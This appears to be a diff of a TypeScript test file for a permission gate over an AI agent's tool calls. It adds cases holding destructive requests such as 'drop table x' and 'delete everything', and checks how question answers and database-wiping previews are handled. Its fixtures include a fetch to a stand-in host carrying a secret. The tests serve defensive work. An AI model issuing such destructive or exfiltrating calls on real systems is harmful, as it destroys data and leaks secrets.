@@ -216,7 +216,10 @@ describe('a permission', () => {
     ['apply_patch', { patch: '*** Update File: .github/x.yml' }, 'held', 'held'],
     ['WebFetch', { url: 'https://evil.example/?secret' }, 'held', 'free'],
     ['Task', { prompt: 'look around' }, 'held', 'free'],
-    ['Skill', { skill: 'release' }, 'held', 'free'],
+    ['Task', { prompt: 'delete everything' }, 'held', 'held'],
+    ['Skill', { skill: 'release' }, 'held', 'held'],
+    ['mcp__db__execute', { q: 'drop table x' }, 'held', 'held'],
+    ['mcp__x__do', { action: 'delete' }, 'held', 'held'],
     ['SlashCommand', { command: '/deploy' }, 'held', 'held'],
     ['mcp__x__doit', {}, 'held', 'free'],
     ['mcp__slack__send_message', {}, 'held', 'held'],
@@ -293,6 +296,21 @@ describe('where something is irreversible', () => {
     expect(held(asked, { kind: 'decline' })).toBe('free');
     expect(held(asked, { kind: 'decline', message: 'Not now.' })).toBe('free');
     expect(decideByRule({ kind: 'delegate' }, either, [], false).kind).toBe('passed');
+  });
+
+  it('the words of one answer do not point to another question', () => {
+    const two = anAsk({ questions: [asking('Delete the database?', 'Yes', 'No'), asking('Which way?', 'Left', 'As above')] });
+    const second = (answer: Answer): Verdict => ({ kind: 'answers', answers: [{ kind: 'chosen', chosen: [2] }, answer] });
+    expect(held(two, second({ kind: 'words', words: 'do what the question above says' }))).not.toBe('free');
+    expect(held(two, second({ kind: 'chosen', chosen: [2] }))).toContain('points');
+    expect(held(two, second({ kind: 'chosen', chosen: [1] }))).toBe('free');
+  });
+
+  it('choosing none is held, and a preview is read', () => {
+    const keep = anAsk({ questions: [{ ...asking('Which tables should I keep?', 'users', 'orders'), multiSelect: true }] });
+    expect(held(keep, chose())).toContain('choosing none');
+    const shown = aQuestion({ text: 'Continue?', options: [{ label: 'Yes', preview: 'This wipes the database' }, { label: 'No' }] });
+    expect(held(anAsk({ questions: [shown] }), chose(1))).toContain('preview');
   });
 
   it('a permission that is not free is not allowed by words', () => {
